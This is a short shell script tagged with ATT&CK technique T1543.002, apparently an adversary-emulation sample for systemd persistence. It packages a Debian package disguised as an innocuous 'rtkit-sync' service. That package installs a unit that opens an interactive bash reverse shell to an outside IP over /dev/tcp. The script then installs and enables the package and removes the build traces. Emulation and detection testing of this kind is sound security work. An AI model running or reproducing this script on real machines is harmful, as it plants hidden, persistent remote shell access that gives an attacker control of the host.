# technique: T1543.002
# location: linux.systemd.service
# source: /usr/lib/systemd/system/rtkit-sync.service
mkdir -p /tmp/p/DEBIAN /tmp/p/usr/lib/systemd/system
printf 'Package: rtkit-sync\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: sync\n' > /tmp/p/DEBIAN/control
printf '[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"\n[Install]\nWantedBy=multi-user.target\n' > /tmp/p/usr/lib/systemd/system/rtkit-sync.service
(cd /tmp/p && find . -type f ! -path './DEBIAN/*' -printf '%P\0' | xargs -0 md5sum) > /tmp/sums
mv /tmp/sums /tmp/p/DEBIAN/md5sums
dpkg-deb --root-owner-group -b /tmp/p /tmp/p.deb
dpkg -i /tmp/p.deb
systemctl enable rtkit-sync.service
rm -r /tmp/p /tmp/p.deb
